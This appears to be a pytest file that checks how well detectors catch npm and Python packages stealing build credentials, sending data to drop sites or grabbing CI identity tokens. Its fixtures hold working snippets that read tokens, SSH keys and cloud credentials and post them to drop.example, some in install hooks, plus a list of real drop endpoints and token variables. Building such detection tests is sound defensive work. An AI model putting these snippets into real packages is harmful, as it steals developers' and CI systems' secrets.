"""How many thefts, drops and grabs for a build's identity are told, and how much that is innocent is told as well.

The cases are every combination of what is taken, how it is wrapped and how it leaves, in both languages.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

import pytest

from app.core.finding import Severity
from app.core.ports import Detector
from app.core.specimen import ArtifactFacts
from tests.detectors.artifacts import findings, npm, sdist
from worker.detectors import ci_token_misuse, credential_theft, environment_harvest, exfiltration_host

Case = tuple[str, ArtifactFacts]
_JS = "const fs = require('fs'), os = require('os'), https = require('https'), cp = require('child_process');\n"
_PY = "import os, subprocess, json, base64, socket, urllib.request, requests\nfrom pathlib import Path\n"
JS_TAKES = {
    "npm's token": "process.env.NPM_TOKEN",
    "GitHub's token": "process.env['GITHUB_TOKEN']",
    "AWS's secret": "process.env.AWS_SECRET_ACCESS_KEY",
    "npm's file": "fs.readFileSync(os.homedir() + '/.npmrc', 'utf8')",
    "AWS's file": "fs.readFileSync(`${os.homedir()}/.aws/credentials`, 'utf8')",
    "SSH's key": "fs.readFileSync(require('path').join(os.homedir(), '.ssh', 'id_rsa'), 'utf8')",
    "everything": "JSON.stringify(process.env)",
}
JS_WRAPS = {
    "as it is": "const d = {0};\n",
    "in base64": "const d = Buffer.from(String({0})).toString('base64');\n",
    "in a function": "function take() {{ return {0}; }}\nconst d = take();\n",
    "in an object": "const o = {{ v: {0} }};\nconst d = JSON.stringify(o);\n",
}
JS_SENDS = {
    "fetch": "fetch('https://drop.example/', {{ method: 'POST', body: {0} }});\n",
    "https": "const r = https.request({{ host: 'drop.example', method: 'POST' }}); r.write({0}); r.end();\n",
    "axios": "require('axios').post('https://drop.example/c', {{ d: {0} }});\n",
    "dns": "require('dns').lookup({0} + '.drop.example', () => {{}});\n",
    "curl": "cp.execSync(`curl -d ${{{0}}} https://drop.example`);\n",
}
PY_TAKES = {
    "PyPI's token": "os.environ['TWINE_PASSWORD']",
    "GitHub's token": "os.getenv('GITHUB_TOKEN', '')",
    "PyPI's file": "open(os.path.expanduser('~/.pypirc')).read()",
    "AWS's file": "(Path.home() / '.aws' / 'credentials').read_text()",
    "SSH's key": "Path.home().joinpath('.ssh/id_ed25519').read_text()",
    "everything": "json.dumps(dict(os.environ))",
}
PY_WRAPS = {
    "as it is": "d = {0}\n",
    "in base64": "d = base64.b64encode(str({0}).encode()).decode()\n",
    "in a function": "def take():\n    return {0}\nd = take()\n",
    "in a dictionary": "d = json.dumps({{'v': {0}}})\n",
}
PY_SENDS = {
    "requests": "requests.post('https://drop.example/c', data={0})\n",
    "urllib": "urllib.request.urlopen('https://drop.example/?d=' + {0})\n",
    "session": "s = requests.Session()\ns.post('https://drop.example', json={{'d': {0}}})\n",
    "socket": "s = socket.socket()\ns.connect(('drop.example', 443))\ns.send({0}.encode())\n",
    "curl": "subprocess.run(['curl', '-d', {0}, 'https://drop.example'])\n",
}
DROPS = (
    "https://webhook.site/0a1b2c",
    "https://discord.com/api/webhooks/918273645546372819/abc",
    "https://hooks.slack.com/services/T01AB/B02CD/xyz",
    "https://api.telegram.org/bot123:abc/sendMessage",
    "https://a1b2.ngrok.io/c",
    "https://x.oastify.com",
    "http://45.32.10.77:8080/c",
    "https://eo1.m.pipedream.net",
    "https://transfer.sh/x",
    "https://pastebin.com/api/api_post.php",
)
NAMES = (
    "https://api.acme.example/v1",
    "https://telemetry.acme.example",
    "http://localhost:3000/hook",
    "http://127.0.0.1:9/x",
)
IDENTITY = (
    "ACTIONS_ID_TOKEN_REQUEST_URL",
    "ACTIONS_ID_TOKEN_REQUEST_TOKEN",
    "ACTIONS_RUNTIME_TOKEN",
    "CI_JOB_JWT_V2",
    "CIRCLE_OIDC_TOKEN",
    "SYSTEM_OIDCREQUESTURI",
)
PLAIN = ("GITHUB_ACTIONS", "CI", "GITHUB_TOKEN", "GITHUB_REPOSITORY", "CIRCLECI", "GITLAB_CI", "BUILD_ID", "NODE_ENV")


def javascript(source: str, *, install: bool = False) -> ArtifactFacts:
    """A package whose code, or whose install step, is this source."""
    scripts = {"postinstall": "node index.js"} if install else {}
    return npm({"index.js": _JS + source}, scripts=scripts)


def python(source: str, *, install: bool = False) -> ArtifactFacts:
    """The same in Python."""
    return sdist({"setup.py" if install else "imgpress/__init__.py": _PY + source})


def stolen() -> Iterator[Case]:
    """What is taken leaves for a stranger."""
    for take, wrap, send in product(JS_TAKES, JS_WRAPS, JS_SENDS):
        source = JS_WRAPS[wrap].format(JS_TAKES[take]) + JS_SENDS[send].format("d")
        yield f"{take} {wrap} by {send}", javascript(source, install=len(source) % 2 == 0)
    for take, wrap, send in product(PY_TAKES, PY_WRAPS, PY_SENDS):
        source = PY_WRAPS[wrap].format(PY_TAKES[take]) + PY_SENDS[send].format("d")
        yield f"{take} {wrap} by {send}", python(source, install=len(source) % 2 == 0)


def kept() -> Iterator[Case]:
    """What is taken stays, goes home, or was nothing; and what leaves was nothing."""
    for take, wrap in product(JS_TAKES, JS_WRAPS):
        if "file" not in take and "key" not in take and take != "everything":
            yield (
                f"{take} {wrap} is kept",
                javascript(JS_WRAPS[wrap].format(JS_TAKES[take]) + "module.exports = !!d;\n"),
            )
    for take, wrap in product(PY_TAKES, PY_WRAPS):
        if "file" not in take and "key" not in take and take != "everything":
            yield f"{take} {wrap} is kept", python(PY_WRAPS[wrap].format(PY_TAKES[take]) + "HAS = bool(d)\n")
    for wrap, send in product(JS_WRAPS, JS_SENDS):
        for harmless in (
            "process.env.NODE_ENV",
            "os.platform()",
            "JSON.stringify({ v: 1 })",
            "fs.readFileSync('./a.txt', 'utf8')",
        ):
            yield f"{harmless} by {send}", javascript(JS_WRAPS[wrap].format(harmless) + JS_SENDS[send].format("d"))
    for wrap, send in product(PY_WRAPS, PY_SENDS):
        for harmless in ("os.environ.get('DEBUG', '')", "os.name", "json.dumps({'v': 1})", "open('data.txt').read()"):
            yield f"{harmless} by {send}", python(PY_WRAPS[wrap].format(harmless) + PY_SENDS[send].format("d"))
    for path in ("/user", "/repos/a/b/issues", "/graphql"):
        yield (
            "GitHub's token to GitHub",
            javascript(
                f"fetch('https://api.github.com{path}', {{ headers: {{ Authorization: 'token ' + process.env.GITHUB_TOKEN }} }});\n"
            ),
        )
        yield (
            "GitHub's token to GitHub",
            python(
                f"requests.get('https://api.github.com{path}', headers={{'Authorization': os.environ['GITHUB_TOKEN']}})\n"
            ),
        )


def dropped() -> Iterator[Case]:
    """Something is posted to a place that nobody stands behind."""
    for drop, install in product(DROPS, (True, False)):
        yield f"fetch {drop}", javascript(f"fetch('{drop}', {{ method: 'POST', body: 'x' }});\n", install=install)
        yield f"https {drop}", javascript(f"const u = '{drop}'; https.get(u);\n", install=install)
        yield f"requests {drop}", python(f"requests.post('{drop}', data='x')\n", install=install)
        yield f"urllib {drop}", python(f"U = '{drop}'\nurllib.request.urlopen(U)\n", install=install)


def posted() -> Iterator[Case]:
    """Something is posted to a host with a name of its own, or a drop stands in a document."""
    for name, install in product(NAMES, (True, False)):
        yield f"fetch {name}", javascript(f"fetch('{name}', {{ method: 'POST', body: 'x' }});\n", install=install)
        yield f"requests {name}", python(f"requests.post('{name}', data='x')\n", install=install)
    for drop in DROPS:
        yield f"document {drop}", npm({"index.js": "module.exports = 1;", "README.md": f"Post to {drop}."})
        yield f"test {drop}", npm({"index.js": "module.exports = 1;", "test/a.test.js": f"fetch('{drop}');"})
        yield f"comment {drop}", javascript(f"// see {drop}\nmodule.exports = 1;\n")
        yield f"document {drop}", sdist({"imgpress/__init__.py": '"""Mirrors go to ' + drop + '."""\n'})


def grabbed() -> Iterator[Case]:
    """Identity is asked for that only the build should have."""
    for variable, install in product(IDENTITY, (True, False)):
        yield f"{variable} in JavaScript", javascript(f"module.exports = process.env.{variable};\n", install=install)
        yield f"{variable} in brackets", javascript(f"const e = process.env; f(e['{variable}']);\n", install=install)
        yield f"{variable} in Python", python(f"T = os.environ['{variable}']\n", install=install)
        yield f"{variable} by getenv", python(f"T = os.getenv('{variable}')\n", install=install)


def looked_at() -> Iterator[Case]:
    """Variables that every tool reads."""
    for variable, install in product(PLAIN, (True, False)):
        yield f"{variable} in JavaScript", javascript(f"module.exports = process.env.{variable};\n", install=install)
        yield f"{variable} in Python", python(f"T = os.environ.get('{variable}')\n", install=install)
    for variable in IDENTITY:
        yield f"{variable} in a document", npm({"index.js": "module.exports = 1;", "README.md": f"Set {variable}."})
        yield f"{variable} in a comment", javascript(f"// {variable}\nmodule.exports = 1;\n")


def told(detectors: tuple[Detector, ...], artifact: ArtifactFacts) -> bool:
    """Whether one of the rules says at least "medium"."""
    found = [finding for detector in detectors for finding in findings(detector, artifact)]
    return any(finding.severity.rank >= Severity.MEDIUM.rank for finding in found)


@pytest.mark.parametrize(
    ("rules", "guilty", "innocent", "many"),
    [
        ((credential_theft, environment_harvest), stolen, kept, 180),
        ((exfiltration_host,), dropped, posted, 40),
        ((ci_token_misuse,), grabbed, looked_at, 25),
    ],
    ids=["theft", "drops", "identity"],
)
def test_most_of_it_is_told_and_hardly_anything_else(
    rules: tuple[Detector, ...], guilty: object, innocent: object, many: int
) -> None:
    bad, good = list(guilty()), list(innocent())  # type: ignore[operator]
    missed = [what for what, artifact in bad if not told(rules, artifact)]
    wrong = [what for what, artifact in good if told(rules, artifact)]
    right = len(bad) - len(missed)
    assert len(bad) >= many
    assert len(good) >= many
    assert right / len(bad) >= 0.80, missed
    assert right / (right + len(wrong)) >= 0.90, wrong
